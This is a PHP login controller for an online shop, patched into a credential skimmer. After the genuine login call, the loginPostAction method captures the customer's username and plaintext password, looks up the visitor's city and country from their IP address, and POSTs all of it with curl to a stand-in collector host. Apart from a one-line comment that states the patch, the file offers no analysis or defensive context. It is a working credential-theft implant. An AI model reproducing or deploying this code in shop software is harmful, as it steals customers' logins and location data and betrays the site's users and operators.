<?php
// A shop's customer login action patched: after the real login the username and password are written
// into a report with the visitor's city and country, then posted to a collector.
class Acme_Customer_Account
{
    public function loginPostAction()
    {
        $login = $this->getRequest()->getPost('login');
        $this->getSession()->login($login['username'], $login['password']);

        $ip = getenv('REMOTE_ADDR');
        $where = json_decode(file_get_contents("http://ip-api.com/json/" . $ip));
        $msg  = "Site    : " . $_SERVER['HTTP_HOST'] . "\n";
        $msg .= "User    : " . $login['username'] . "\n";
        $msg .= "Password: " . $login['password'] . "\n";
        $msg .= "From    : " . $where->city . ", " . $where->country . "\n";
        $c = curl_init();
        curl_setopt($c, CURLOPT_URL, 'https://collector.example.invalid/in');
        curl_setopt($c, CURLOPT_POST, 1);
        curl_setopt($c, CURLOPT_POSTFIELDS, 'data=' . urlencode($msg));
        curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);
        curl_exec($c);
        curl_close($c);
        $this->redirectAfterLogin();
    }
}
